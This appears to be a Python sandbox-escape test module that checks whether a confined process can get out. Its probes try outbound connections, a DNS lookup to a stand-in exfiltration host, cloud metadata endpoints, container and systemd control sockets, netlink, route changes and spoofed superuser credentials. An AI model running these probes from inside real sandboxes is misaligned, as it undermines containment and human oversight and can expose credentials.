"""Ways to speak to somebody outside."""

import fcntl
import os
import socket
import struct

from tests.security.attempts.trying import Tries, main, reach

_TIMEOUT_S = 1.0
_SIOCSIFADDR = 0x8916
_ADD_ROUTE, _REQUEST_CREATE = 24, 0x405
# A question for a name that carries what is to be taken out (RFC 1035).
_QUESTION = b"\0\1\1\0\0\1\0\0\0\0\0\0\7escaped\7example\3org\0\0\1\0\1"


def _family(host: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def _send(kind: int, host: str, port: int, data: bytes, protocol: int = 0) -> None:
    with socket.socket(_family(host), kind, protocol) as link:
        link.settimeout(_TIMEOUT_S)
        link.connect((host, port))
        link.send(data)
        link.recv(10)  # where nobody is there, this is how it is learned


def tcp(tries: Tries, port: str, *hosts: str) -> None:
    for host in hosts:
        tries(host, _send, socket.SOCK_STREAM, host, int(port), b"escaped")


def udp(tries: Tries, port: str, *hosts: str) -> None:
    for host in hosts:
        tries(host, _send, socket.SOCK_DGRAM, host, int(port), _QUESTION)


def icmp(tries: Tries, word: str, *hosts: str) -> None:
    for host in hosts:
        tries(f"raw {host}", _send, socket.SOCK_RAW, host, 0, _echo(word), socket.IPPROTO_ICMP)
        tries(f"ping {host}", _send, socket.SOCK_DGRAM, host, 0, _echo(word), socket.IPPROTO_ICMP)


def _echo(word: str) -> bytes:
    """A ping that says ``word`` (RFC 792)."""
    text = bytes([8, 0, 0, 0, 0, 0, 0, 0]) + word.encode()
    total = sum(struct.unpack(f"!{len(text) // 2}H", text))
    return text[:2] + struct.pack("!H", ~(total % 0xFFFF) & 0xFFFF) + text[4:]


def metadata(tries: Tries) -> None:
    for host in ("169.254.169.254", "169.254.170.2", "100.100.100.200", "192.0.0.192", "fd00:ec2::254"):
        tries(host, _send, socket.SOCK_STREAM, host, 80, b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")


def names(tries: Tries) -> None:
    tries("resolver", socket.getaddrinfo, "escaped.example.org", 80)


def families(tries: Tries) -> None:
    known = {"packet": 17, "vsock": 40, "crypto": 38, "bluetooth": 31, "can": 29, "tipc": 30, "rds": 21, "xdp": 44}
    for name, number in known.items():
        tries(name, socket.socket, number, socket.SOCK_RAW)


def sockets(tries: Tries, path: str, abstract: str) -> None:
    """Sockets of the host: by path, and by the abstract name that has none."""
    tries("path", _speak, path)
    tries("abstract", _speak, "\0" + abstract)


def services(tries: Tries) -> None:
    """Those that obey whoever reaches them."""
    containers = ("docker.sock", "containerd/containerd.sock", "crio/crio.sock", "podman/podman.sock")
    for path in (*containers, "systemd/private", "dbus/system_bus_socket"):
        tries(path, _speak, f"/run/{path}")


def _speak(address: str) -> None:
    with socket.socket(socket.AF_UNIX) as link:
        link.connect(address)
        link.send(b"escaped")


def devices(tries: Tries) -> None:
    """Give loopback another address, and add a way out."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
        address = struct.pack("16sHH4s8x", b"lo", socket.AF_INET, 0, socket.inet_aton("192.0.2.7"))
        tries("address", fcntl.ioctl, link, _SIOCSIFADDR, address)
    tries("route", _add_route)
    tries("tun", reach, "/dev/net/tun", os.O_RDWR)


def netlink(tries: Tries) -> None:
    """The kernel's other services by netlink: its log, its firewall, its audit, what happens to devices."""
    for number in range(1, 23):
        tries(f"{number}", socket.socket, socket.AF_NETLINK, socket.SOCK_RAW, number)


def options(tries: Tries) -> None:
    """What makes a socket more than others: other senders, other ways, the firewall."""
    whole, text = struct.pack("i", 1), b"lo\0"
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as link:
        for name, (level, option, value) in {
            "mark": (socket.SOL_SOCKET, 36, whole), "room": (socket.SOL_SOCKET, 33, whole),
            "priority": (socket.SOL_SOCKET, 12, struct.pack("i", 7)), "transparent": (socket.IPPROTO_IP, 19, whole),
            "repair": (socket.IPPROTO_TCP, 19, whole), "debug": (socket.SOL_SOCKET, 1, whole),
            "firewall": (socket.IPPROTO_IP, 64, bytes(96)), "routes": (socket.IPPROTO_IP, 200, whole),
            "upper protocol": (socket.IPPROTO_TCP, 31, b"mimo"), "congestion": (socket.IPPROTO_TCP, 13, b"mimo"),
        }.items():  # fmt: skip
            tries(name, link.setsockopt, level, option, value)
        tries("rename", fcntl.ioctl, link, 0x8923, struct.pack("16s24s", text, b"escaped"))
        tries("bridge", fcntl.ioctl, link, 0x89A0, b"escaped\0")


def credentials(tries: Tries) -> None:
    """Be somebody else for who asks a socket."""
    ours, _ = socket.socketpair()
    for who, sent in {"first": (1, os.getuid(), os.getgid()), "superuser": (os.getpid(), 0, 0)}.items():
        message = (socket.SOL_SOCKET, 2, struct.pack("3i", *sent))
        tries(who, ours.sendmsg, [b"escaped"], [message])


def _add_route() -> None:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as link:
        route = struct.pack("8BI", socket.AF_INET, 0, 0, 0, 254, 3, 253, 1, 0) + struct.pack("HHI", 8, 4, 1)
        link.send(struct.pack("IHHII", 16 + len(route), _ADD_ROUTE, _REQUEST_CREATE, 1, 0) + route)
        refusal = -struct.unpack_from("i", link.recv(4096), 16)[0]
        if refusal:
            raise OSError(refusal, os.strerror(refusal))


if __name__ == "__main__":
    main(globals())
